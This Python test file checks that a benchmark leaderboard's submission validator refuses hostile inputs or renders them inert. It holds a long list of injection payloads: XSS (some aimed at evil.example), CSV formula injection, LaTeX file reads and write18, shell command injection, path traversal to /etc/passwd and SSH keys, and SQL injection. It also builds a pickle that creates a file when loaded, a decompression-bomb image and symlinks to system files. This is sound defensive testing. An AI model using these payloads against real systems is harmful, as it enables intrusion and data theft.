"""Hostile submissions: each is refused in one line that is safe to print, or rendered as the text that it is."""

from __future__ import annotations

import csv
import dataclasses
import html.parser
import io
import json
import os
import pickle
import re
import unicodedata
from pathlib import Path

import pyarrow
import pyarrow.parquet
import pytest
from PIL import Image
from submissions import describe, relined, submit

from bench.boards.board import read_board
from bench.boards.record import Record
from bench.boards.render.site import render_board
from bench.boards.statistics import summarise
from bench.boards.submissions import validate as submission
from bench.boards.submissions.sanitize import read_json
from bench.boards.submissions.validate import validate
from bench.errors import HIDDEN, BadValue
from bench.keys import needs_quotes

TEXTS = {
    "script": "<script>alert(1)</script>",
    "script-upper": "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "script-close": "</script><script>alert(1)</script>",
    "style-close": "</style><script>alert(1)</script>",
    "title-close": "</title></head><body onload=alert(1)>",
    "comment-close": "--><script>alert(1)</script>",
    "cdata": "]]><script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "svg": "<svg/onload=alert(1)>",
    "iframe": "<iframe src=javascript:alert(1)></iframe>",
    "object": "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
    "form": "<form action=https://evil.example><input name=q></form>",
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base": "<base href=https://evil.example/>",
    "link": '<a href="javascript:alert(1)">x</a>',
    "details": "<details open ontoggle=alert(1)>",
    "bold": "<b>",
    "half-tag": "<img src=x onerror=alert(1) ",
    "double-quote": '" onmouseover="alert(1)',
    "single-quote": "' onmouseover='alert(1)",
    "attribute": '"><script>alert(1)</script>',
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "entity-number": "&#60;script&#62;",
    "template": "{{constructor.constructor('alert(1)')()}}",
    "javascript": "javascript:alert(1)",
    "javascript-case": "JaVaScRiPt:alert(1)",
    "data-link": "data:text/html,<script>alert(1)</script>",
    "vbscript": "vbscript:msgbox(1)",
    "markdown-link": "[x](javascript:alert(1))",
    "markdown-image": "![x](https://evil.example/track.png)",
    "markdown-reference": "[x]: javascript:alert(1)",
    "markdown-autolink": "<javascript:alert(1)>",
    "markdown-heading": "# heading",
    "markdown-fence": "```sh",
    "markdown-code": "`x` `",
    "markdown-bold": "**bold** __bold__ ~~gone~~",
    "markdown-row": "a | b | c |",
    "markdown-rule": "|---|---|",
    "markdown-escape": "\\| \\< \\[",
    "backslash": "\\",
    "pipe": "|",
    "formula": "=1+1",
    "formula-command": "=cmd|' /C calc'!A0",
    "formula-link": '=HYPERLINK("https://evil.example","x")',
    "formula-plus": "+1+1",
    "formula-minus": "-1+1",
    "formula-at": "@SUM(1+1)",
    "formula-tab": "\t=1+1",
    "formula-return": "\r=1+1",
    "formula-newline": "\n=1+1",
    "formula-space": " =1+1",
    "csv-quote": '","=1+1","',
    "newline": "a\nb",
    "newline-windows": "a\r\nb",
    "vertical-tab": "a\x0bb",
    "line-separator": "a\u2028b",
    "paragraph-separator": "a\u2029b",
    "next-line": "a\x85b",
    "nul": "a\x00b",
    "escape": "a\x1b[31mred\x1b[0m",
    "bell": "a\x07b",
    "delete": "a\x7fb",
    "latex-input": "\\input{/etc/passwd}",
    "latex-write": "\\immediate\\write18{id}",
    "latex-catcode": "\\catcode`\\%=12",
    "latex-end": "\\end{tabular}\\end{document}",
    "latex-special": "$ % & # _ { } ~ ^",
    "latex-math": "$x^2_3$",
    "latex-caret": "^^5cinput{x}",
    "latex-comment": "% all of this is gone",
    "latex-cell": "a & b \\\\ c",
    "bidi-override": "\u202egnp.exe",
    "bidi-isolate": "\u2066x\u2069",
    "bidi-mark": "a\u200fb",
    "bidi-arabic": "a\u061cb",
    "zero-width": "ce\u200b",
    "zero-width-joiner": "ce\u200d",
    "byte-order-mark": "\ufeffce",
    "soft-hyphen": "c\u00ade",
    "surrogate": "\ud83d",
    "private-use": "\ue000",
    "tag-characters": "\U000e0041\U000e0042",
    "filler": "ce\u3164",
    "filler-half-width": "\uffa0ce",
    "filler-jamo": "c\u115fe",
    "blank-braille": "ce\u2800",
    "blank-music": "ce\U0001d159",
    "variation-selector": "c\ufe0fe",
    "variation-selector-far": "c\U000e0100e",
    "grapheme-joiner": "c\u034fe",
    "vowel-inherent": "c\u17b4e",
    "no-break-space": "a\u00a0b",
    "ideographic-space": "a\u3000b",
    "hair-space": "a\u200ab",
    "unassigned": "a\u0378b",
    "stacked-accents": "e" + "\u0301\u0302\u0303\u0304" * 5,
    "stacked-circles": "e" + "\u20dd" * 3,
    "cyrillic": "\u0441\u0435",
    "bare-address": "see https://evil.example/x",
    "bare-address-old": "ftp://evil.example",
    "bare-host": "www.evil.example",
    "bare-mail": "who@evil.example",
    "bare-in-brackets": "(https://evil.example)",
    "long": "x" * 100_000,
    "empty": "",
    "blank": "   ",
    "dots": "..",
    "traversal": "../../../etc/passwd",
    "traversal-windows": "..\\..\\windows\\win.ini",
    "absolute": "/etc/passwd",
    "home": "~/.ssh/id_rsa",
    "drive": "C:\\Windows\\system.ini",
    "share": "\\\\evil.example\\share",
    "file-link": "file:///etc/passwd",
    "command": "$(touch pwned)",
    "command-backtick": "`touch pwned`",
    "command-semicolon": "; touch pwned #",
    "option": "--output=/etc/passwd",
    "template-shell": "${{ github.token }}",
    "percent": "%s%n%n%n",
    "format": "{0.__class__.__init__.__globals__}",
    "sql": "'; DROP TABLE records; --",
    "null-word": "null",
    "prototype": "__proto__",
}


@pytest.fixture(autouse=True)
def quick(monkeypatch):
    """The same values amount to the same: nearly all submissions here have the same."""

    def summary(values, names, kept, bounds):
        about = values.tobytes(), tuple(names), None if kept is None else kept.tobytes(), bounds
        if about not in SUMMARIES:
            SUMMARIES[about] = summarise(values, names, kept, bounds)
        return SUMMARIES[about]

    monkeypatch.setattr(submission, "summarise", summary)


SUMMARIES = {}


class Page(html.parser.HTMLParser):
    """What a browser would see: tags with attributes, and the text of scripts that run."""

    def __init__(self, text):
        super().__init__(convert_charrefs=True)
        self.tags, self.scripts, self.inside = [], [], False
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.tags.append((tag, tuple(attributes)))
        self.inside = tag == "script" and "json" not in (dict(attributes).get("type") or "")

    def handle_endtag(self, tag):
        self.inside = self.inside and tag != "script"

    def handle_data(self, data):
        if self.inside:
            self.scripts.append(data)


def unescaped(pattern, text):
    """Places of a pattern that no backslash makes harmless."""
    return [m for m in re.finditer(pattern, text) if (m.start() - len(text[: m.start()].rstrip("\\"))) % 2 == 0]


def inert_md(content, hostile):
    text = re.sub(r"^```.*?^```", "", content, flags=re.DOTALL | re.MULTILINE)
    cells = 0
    for line in text.splitlines():
        if line.startswith("|"):
            pipes = len(unescaped(r"\|", line))
            assert cells in (0, pipes), line
            cells = pipes
        else:
            cells = 0
    text = re.sub(r"(?<!\\)`[^`\n]*`", "", text)
    assert not unescaped(r"<(?!br>)", text)
    for place in unescaped(r"\]\(", text):
        assert not re.match(r"\]\(\s*[a-z]+:(?<!https:)(?<!http:)", text[place.start() :], re.IGNORECASE)
    assert not unescaped(r"`", text)
    assert not re.search(r"://|www\.|@", text, re.IGNORECASE)  # GitHub makes links of them


def inert_csv(content, hostile):
    rows = list(csv.reader(io.StringIO(content)))
    assert len({len(row) for row in rows}) == 1
    for cell in (cell for row in rows for cell in row):
        assert cell[:1] not in tuple("=+-@\t\r") or re.fullmatch(r"[+-]?[\d.]+(e[+-]?\d+)?", cell), cell


def inert_html(content, hostile):
    page = Page(content)
    for tag, attributes in page.tags:
        for name, value in attributes:
            assert not name.startswith("on"), (tag, name)
            if name in ("href", "src", "action", "data", "formaction", "xlink:href"):
                assert re.match(r"(https?://|#|\.\.?/|[\w-]+(/|\.\w+$|$))", value or "") or not value, (
                    tag,
                    name,
                    value,
                )
    theirs = Page(hostile)
    assert not set(theirs.tags) & {tag for tag in page.tags if tag[1]}
    assert not any(script.strip() and script in mine for script in theirs.scripts for mine in page.scripts)


def inert_tex(content, hostile):
    assert not re.search(r"\\(input|include|immediate|write|catcode|csname|def|openin|read)\b", content)
    assert "^^" not in content
    if len(hostile) > 1 and set(hostile) & set("\\$%&#_{}~^"):
        assert not unescaped(re.escape(hostile), content)
    assert not unescaped("#", content)
    cells = [len(unescaped("&", line)) for line in content.splitlines() if line.rstrip().endswith("\\\\")]
    assert len(set(cells)) <= 1


def inert_json(content, hostile):
    json.loads(content, parse_constant=lambda text: 1 / 0)


INERT = {".md": inert_md, ".csv": inert_csv, ".html": inert_html, ".tex": inert_tex, ".json": inert_json}


def inert(name, content, hostile):
    """Assert that a generated file holds a text as text alone, if it holds it."""
    shown = set(content) - {"\n"}
    assert not any(unicodedata.category(c) in ("Cc", "Cs") or c in "\u2028\u2029" for c in shown), name
    INERT[Path(name).suffix](content, hostile)


def harmless_or_refused(folder, hostile, told=1):
    """Whether validation takes a board; if not it says so in one line, and if so all generated files are inert."""
    lines = validate(folder)
    for line in lines:
        assert not any(unicodedata.category(c) in HIDDEN for c in line) and len(line) < 1100
    if lines:
        assert len(lines) == told, lines
        return False
    for name, content in render_board(read_board(folder)).items():
        inert(name, content, hostile)
    return True


FIELDS = {
    "free": lambda text: {
        "provenance": {"device": text, "papers": {"defense l2": text, "model lenet": text}, text: {text: text}}
    },
    "papers": lambda text: {"provenance": {"papers": {text: "a paper"}}},
    "weights": lambda text: {"provenance": {"weights": text}},
    "flags": lambda text: {"flags": ["x" + text, text]},
    "undefined": lambda text: {"undefined_because": text},
    "objective": lambda text: {"objective": {text: 1.0}},
    "ours": lambda text: {
        **{"help": text, "paper": "x" + text, "unit": text[:30]},
        **{"cost": {text: 1.0}, "provenance": {"data": text}},
    },
    "metric": lambda text: {"metric": text},
    "command": lambda text: {"command": text},
    "axes": lambda text: {"axes": {text: text}},
}


# Texts that do as others do, by another character or in another tag.
ALIKE = """
    script-upper title-close svg iframe object form meta base details entity-number javascript-case vbscript
    formula-command formula-newline newline-windows paragraph-separator bell delete latex-write latex-catcode
    latex-math latex-comment latex-cell bidi-isolate bidi-mark bidi-arabic zero-width-joiner filler-half-width
    filler-jamo blank-music variation-selector-far hair-space ideographic-space stacked-circles bare-address-old
    bare-mail bare-in-brackets traversal-windows home drive share command-backtick command-semicolon percent format
"""
assert set(TEXTS) >= set(ALIKE.split())


@pytest.mark.parametrize(
    "hostile",
    [pytest.param(text, id=name, marks=[pytest.mark.slow] * (name in ALIKE.split())) for name, text in TEXTS.items()],
)
def test_a_hostile_text(tiny, hostile):
    """In the fields of a record, in a parameter, in metadata, in links and in the name of a file."""
    record = json.loads((tiny / "records" / "acme.jsonl").read_bytes().splitlines()[0])
    before = {file: file.read_bytes() for file in (tiny / "records").iterdir()}

    def restore():
        for file, content in before.items():
            file.write_bytes(content)

    for field, put in FIELDS.items():
        relined(tiny, lambda _: json.dumps({**record, **put(hostile)}).encode())  # noqa: B023
        taken = harmless_or_refused(tiny, hostile)
        assert not taken or field == "free" or not hostile, field
        if field == "ours":  # which the suite may say, and then everybody
            relined(tiny, lambda line: json.dumps({**json.loads(line), **put(hostile)}).encode(), "suite")  # noqa: B023
            harmless_or_refused(tiny, hostile, told=2)
            restore()
    note = json.dumps(hostile, ensure_ascii=False) if needs_quotes(hostile) else hostile
    submit(tiny, axes={"defense": f"l2:note={note}"})
    harmless_or_refused(tiny, hostile)
    restore()
    describe(tiny, title=hostile, authors=[hostile], hardware=hostile, selection=hostile, licence=hostile)
    harmless_or_refused(tiny, hostile)
    for link in ("paper", "code"):
        describe(tiny, **{link: hostile})
        assert not harmless_or_refused(tiny, hostile) or not hostile
    describe(tiny)
    name = hostile.encode("utf-8", "surrogatepass").replace(b"/", b"_").replace(b"\x00", b"_")[:200]
    Path(os.fsdecode(os.fsencode(tiny / "records") + b"/" + name + b".jsonl")).write_bytes(b"{}")
    lines = validate(tiny)
    # A name that a submission may have lacks two of its parts, and its record is none.
    assert 1 <= len(lines) <= 2
    assert not any(unicodedata.category(c) in HIDDEN for line in lines for c in line)


class Trap:
    """Unpickled, it makes a file."""

    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return (Path.touch, (Path(self.path),))


@pytest.mark.parametrize("name", ["acme.values.parquet", "acme.toml", "acme.safetensors", "acme.pkl", "x.png"])
def test_a_pickle_is_never_opened_as_one(tiny, name, tmp_path):
    trap = tmp_path / "sprung"
    raw = pickle.dumps(Trap(str(trap)))
    (tiny / "records" / name).write_bytes(raw)
    assert not harmless_or_refused(tiny, "")
    picture(tiny, raw)
    assert len(validate(tiny)) == 2 and not trap.exists()
    pickle.loads(raw)
    assert trap.exists()


def picture(folder, raw, name="0" * 16 + ".png"):
    place = folder / "examples" / "acme"
    place.mkdir(parents=True, exist_ok=True)
    (place / name).write_bytes(raw)


def png(**options):
    stream = io.BytesIO()
    Image.new("RGB", (4, 4)).save(stream, "PNG", **options)
    return stream.getvalue()


def records(raw):
    return lambda folder: (folder / "records" / "acme.jsonl").write_bytes(raw)


def values(raw):
    return lambda folder: (folder / "records" / "acme.values.parquet").write_bytes(raw)


def meta(raw):
    return lambda folder: (folder / "records" / "acme.toml").write_bytes(raw)


def example(raw, name="0" * 16 + ".png"):
    return lambda folder: picture(folder, raw, name)


def extra(path):
    def put(folder):
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_text("x")

    return put


def linked(path, to):
    def put(folder):
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).unlink(missing_ok=True)
        (folder / path).symlink_to(to)

    return put


def line(change):
    return lambda folder: relined(folder, change)


def parquet(write):
    return lambda folder: write(folder / "records" / "acme.values.parquet")


def encrypted_looking(file):
    raw = file.read_bytes()
    file.write_bytes(b"PARE" + raw[4:-4] + b"PARE")


def flipped(file):
    raw = bytearray(file.read_bytes())
    raw[40] ^= 0xFF
    file.write_bytes(bytes(raw))


FILES = {
    "records-binary": records(bytes(range(11, 256))),
    "records-utf16": records("{}".encode("utf-16")),
    "records-utf8-bom": records(b"\xef\xbb\xbf{}\n"),
    "records-crlf": line(lambda text: text + b"\r"),
    "records-null-bytes": records(b"\x00" * 100),
    "records-cut": line(lambda text: text[:-10]),
    "records-two-in-a-line": line(lambda text: text + text),
    "records-blank-line": line(lambda text: text + b"\n"),
    "records-number": records(b"1\n"),
    "records-string": records(b'"x"\n'),
    "records-null": records(b"null\n"),
    "records-deep-list": records(b"[" * 100_000 + b"]" * 100_000),
    "records-deep-table": records(b'{"a":' * 30_000 + b"1" + b"}" * 30_000),
    "records-unbalanced": records(b"]" * 1000 + b"[" * 1000),
    "records-duplicate-key": line(lambda text: text.replace(b"{", b'{"value": 1, ', 1)),
    "records-duplicate-inside": line(lambda text: text.replace(b'"axes": {', b'"axes": {"seed": "1", ', 1)),
    "records-nan": line(lambda text: re.sub(rb'"value": [\d.]+', b'"value": NaN', text)),
    "records-infinity": line(lambda text: re.sub(rb'"value": [\d.]+', b'"value": Infinity', text)),
    "records-minus-infinity": line(lambda text: re.sub(rb'"value": [\d.]+', b'"value": -Infinity', text)),
    "records-1e400": line(lambda text: re.sub(rb'"value": [\d.]+', b'"value": 1e400', text)),
    "records-huge": line(lambda text: re.sub(rb'"value": [\d.]+', b'"value": 1e300', text)),
    "records-huge-int": line(lambda text: re.sub(rb'"value": [\d.]+', b'"value": ' + b"9" * 400, text)),
    "records-huger-int": line(lambda text: re.sub(rb'"value": [\d.]+', b'"value": ' + b"9" * 5000, text)),
    "records-negative-count": line(lambda text: text.replace(b'"n": 3', b'"n": -3')),
    "records-huge-count": line(lambda text: text.replace(b'"n": 3', b'"n": 1000000000000')),
    "records-long-line": line(lambda text: text + b" " * 300_000),
    "records-large": records(b"x" * 20_000_001),
    "records-empty": records(b""),
    "values-empty": values(b""),
    "values-text": values(b"key,image,level,value,kept\n"),
    "values-magic-alone": values(b"PAR1PAR1"),
    "values-lying-footer": values(b"PAR1" + b"\xff\xff\xff\x7f" + b"PAR1"),
    "values-zip": values(b"PK\x03\x04" + bytes(100)),
    "values-cut": parquet(lambda file: file.write_bytes(file.read_bytes()[:-100])),
    "values-flipped": parquet(flipped),
    "values-encrypted": parquet(encrypted_looking),
    "values-many-rows": parquet(
        lambda f: pyarrow.parquet.write_table(pyarrow.table({"key": pyarrow.nulls(3_000_000, pyarrow.string())}), f)
    ),
    "values-nested": parquet(lambda f: pyarrow.parquet.write_table(pyarrow.table({"key": [[["x"]]]}), f)),
    "values-large": values(b"x" * 50_000_001),
    "meta-empty": meta(b""),
    "meta-binary": meta(b"\xff\xfe\x00"),
    "meta-deep": meta(b"title = " + b"[" * 9000 + b"]" * 9000),
    "meta-deep-tables": meta(b"[" + b".".join([b"a"] * 5000) + b"]"),
    "meta-huge-int": meta(b"year = 0x" + b"f" * 15_000),
    "meta-decimal-int": meta(b"year = " + b"9" * 6000),
    "meta-large": meta(b"# " + b"x" * 30_000),
    "meta-nan": meta(b"year = nan\n"),
    "meta-duplicate": meta(b'title = "a"\ntitle = "b"\n'),
    "example-empty": example(b""),
    "example-html": example(b"<html><script>alert(1)</script></html>"),
    "example-svg": example(b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
    "example-magic-alone": example(b"\x89PNG\r\n\x1a\n"),
    "example-cut": example(png()[:-30]),
    "example-with-zip": example(png() + b"PK\x03\x04" + bytes(50)),
    "example-bomb": example(png()[:16] + b"\x7f\xff\xff\xff" * 2 + png()[24:]),
    "example-no-pixels": example(png()[:16] + b"\x00\x00\x00\x00" * 2 + png()[24:]),
    "example-large": example(png() + bytes(300_001)),
    "example-profile": example(png(icc_profile=b"x" * 200)),
    "example-wrong-name": example(png(), "evil.png"),
    "example-upper-name": example(png(), "A" * 16 + ".png"),
    "example-wrong-suffix": example(png(), "0" * 16 + ".svg"),
    "example-two-suffixes": example(png(), "0" * 16 + ".png.html"),
    "hidden-file": extra(".htaccess"),
    "hidden-folder": extra(".git/config"),
    "python-file": extra("records/conftest.py"),
    "notebook": extra("records/acme.ipynb"),
    "weights": extra("records/acme.safetensors"),
    "page-of-theirs": extra("records/index.html"),
    "workflow": extra(".github/workflows/x.yml"),
    "nested-records": extra("records/more/x.jsonl"),
    "folder-with-record-name": extra("records/b.jsonl/x"),
    "unknown-at-top": extra("setup.py"),
    "submission-in-upper-case": extra("records/ACME.jsonl"),
    "submission-with-hyphen-first": extra("records/-rf.jsonl"),
    "submission-of-long-name": extra("records/" + "a" * 65 + ".jsonl"),
    "link-to-file": linked("records/x.jsonl", "/etc/passwd"),
    "link-to-folder": linked("examples", "/etc"),
    "link-to-itself": linked("records/loop", "loop"),
    "link-upward": linked("records/up", "../.."),
    "link-to-device": linked("examples/acme/" + "0" * 16 + ".png", "/dev/zero"),
    "linked-values": linked("records/acme.values.parquet", "suite.values.parquet"),
    "fifo": lambda folder: os.mkfifo(folder / "records" / "acme.fifo"),
}


@pytest.mark.parametrize("put", FILES.values(), ids=FILES)
def test_files(tiny, put):
    put(tiny)
    assert not harmless_or_refused(tiny, "")


WRONG = {"text": "x", "number": 1.5, "none": None, "bool": True, "list": [[1]], "table": {"a": {"b": {}}}, "empty": []}
TAKEN = {"flags": ("empty",), "grain": ("none",)}


@pytest.mark.parametrize("field", [field.name for field in dataclasses.fields(Record)])
def test_a_field_of_another_type(tiny, field):
    line = json.loads((tiny / "records" / "acme.jsonl").read_bytes().splitlines()[0])
    for kind, wrong in WRONG.items():
        if kind not in TAKEN.get(field, ()):
            relined(tiny, lambda _: json.dumps({**line, field: wrong}).encode())  # noqa: B023
            assert not harmless_or_refused(tiny, ""), (field, kind)


def test_there_are_many():
    places = len(FIELDS) + 5
    assert len(TEXTS) > 100 and len(TEXTS) * places + len(FILES) + len(WRONG) * len(dataclasses.fields(Record)) > 1000


@pytest.mark.timeout(20)
def test_a_text_that_never_ends_is_read_once():
    with pytest.raises(BadValue, match="x is not strict JSON"):
        read_json("x", '"' + '\\"' * 90_000)
